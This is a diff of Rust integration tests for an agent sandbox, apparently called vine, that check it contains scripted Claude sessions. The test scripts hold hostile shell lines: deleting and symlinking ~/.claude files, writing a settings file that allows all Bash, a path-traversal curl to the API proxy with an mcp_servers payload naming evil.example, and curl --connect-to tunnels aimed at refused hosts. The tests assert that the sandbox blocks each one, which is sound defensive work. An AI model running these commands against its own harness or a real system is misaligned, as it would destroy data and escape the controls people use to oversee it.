@@ -114,7 +114,7 @@ async fn claude_that_spoils_its_home_harms_nobody_and_goes_on() {
     let _daemon = place.daemon().await;
     let _worker = place.worker("w-1", 1).await;
     let plant = format!(
-        "rm -rf ~/.claude/plans; ln -s {} ~/.claude/plans; echo '{{\"permissions\":{{\"allow\":[\"Bash(*)\"]}}}}' > ~/.claude/settings.json; ln -s /etc/passwd ~/.claude/.credentials.json",
+        "rm -rf ~/.claude/plans; ln -s {} ~/.claude/plans; echo '{{\"permissions\":{{\"allow\":[\"Bash(*)\"]}}}}' > ~/.claude/settings.json; mkdir ~/.claude/.credentials.json; chmod 0 ~/.claude/.credentials.json",
         path(&secret)
     );
     let prompt = format!(
@@ -199,10 +199,24 @@ async fn claude_parked_in_a_sandbox_goes_on_in_a_new_one_after_its_worker_was_ki
     let own = place.folder.path().join("home/claude");
     assert_eq!(fs::read_dir(own).expect("there").count(), 0);
     let env = place
-        .task("Env", "MODEL: bash env > env.txt\nMODEL: finish Looked.")
+        .task("Env", "MODEL: bash env > env.txt; for path in files messages models/..%2Ffiles; do curl -s --path-as-is -H 'content-type: application/json' $ANTHROPIC_BASE_URL/v1/$path -d '{\"mcp_servers\":[{\"url\":\"https://evil.example\"}]}'; echo; done > model.txt\nMODEL: finish Looked.")
         .await;
     place.wait(&env, "done").await;
     let branch = place.branch(&env).await;
+    let said = git(&place.repo, &["show", &format!("{branch}:model.txt")]);
+    let kinds: Vec<&str> = said
+        .lines()
+        .map(|line| {
+            if line.contains("not_found_error") {
+                "none"
+            } else if line.contains("`mcp_servers` would reach others") {
+                "elsewhere"
+            } else {
+                line
+            }
+        })
+        .collect();
+    assert_eq!(kinds, ["none", "elsewhere", "none"], "{said}");
     let env = git(&place.repo, &["show", &format!("{branch}:env.txt")]);
     assert!(
         env.contains("ANTHROPIC_BASE_URL=http://127.0.0.1:") && !env.contains("=dummy"),
@@ -518,6 +532,8 @@ for host in a.example b.example c.example d.example e.example f.example xn--pypa
   curl -sS --max-time 5 "http://$host/" >> said.txt 2>&1 || true
 done
 curl -sS -o ok.txt --max-time 5 http://mirror.example/ >> said.txt 2>&1 || true
+curl -skS --max-time 5 --connect-to neighbour.example:443:mirror.example:443 https://neighbour.example/ >> said.txt 2>&1 || true
+curl -sS --max-time 5 -p --connect-to neighbour.example:80:b.example:80 http://neighbour.example/ >> said.txt 2>&1 || true
 vine ask 'More?' --option Yes --option No > /dev/null; sleep 0.3
 curl -sS --max-time 5 http://late.example/ >> said.txt 2>&1 || true
 curl -sS --max-time 5 http://b.example/ >> said.txt 2>&1 || true
@@ -567,13 +583,21 @@ async fn hosts_that_were_refused_are_one_message_with_a_button_that_lets_out_to_
     let text = told[0]["text"].as_str().expect("words");
     assert!(
         text.contains("> a.example")
-            && text.contains("and 2 more")
+            && text.contains("and 3 more")
             && !text.contains("mirror.example"),
         "{text}"
     );
     let buttons = told[0]["buttons"].as_array().expect("buttons");
     assert_eq!(buttons.len(), 5);
     assert_eq!(buttons[0]["label"], "Allow a.example", "{buttons:?}");
+    // A tunnel ends where it was asked for.
+    while !place
+        .log(&task)
+        .await
+        .contains("not let out to neighbour.example")
+    {
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
     // Pressed on the page.
     let press = json!({ "task": task, "text": "/vine repo set site --allow late.example" });
     place
@@ -1045,4 +1069,26 @@ async fn claude_shell_lines_of_skills_run_where_commands_do_and_nowhere_else() {
             .collect::<Vec<_>>()
             .join(" / ")
     );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn where_only_vine_was_built_its_sandboxes_stand_all_the_same() {
+    let place = Place::with_worker(Agent::Script("true"), WALL).await;
+    let alone = place.folder.path().join("alone");
+    fs::create_dir_all(&alone).expect("made");
+    fs::copy(crate::harness::VINE, alone.join("vine")).expect("copied");
+    let known = place.vine(&["doctor"]);
+    let mut command = Command::new(alone.join("vine"));
+    command
+        .args(known.get_args())
+        .env_clear()
+        .current_dir(place.folder.path());
+    command.envs(
+        known
+            .get_envs()
+            .filter_map(|(name, value)| Some((name, value?))),
+    );
+    let output = command.output().expect("it runs");
+    let said = String::from_utf8_lossy(&output.stdout);
+    assert!(said.contains("bubblewrap stands around agents"), "{said}");
 }
